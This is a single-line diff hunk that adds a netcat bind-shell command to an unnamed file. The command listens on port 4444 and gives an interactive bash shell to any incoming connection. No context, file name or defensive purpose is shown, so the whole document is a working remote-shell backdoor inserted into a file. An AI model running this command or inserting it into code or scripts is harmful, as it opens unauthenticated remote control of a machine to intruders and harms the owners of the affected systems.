@@ -1,0 +1,1 @@
+nc -lvnp 4444 -e /bin/bash
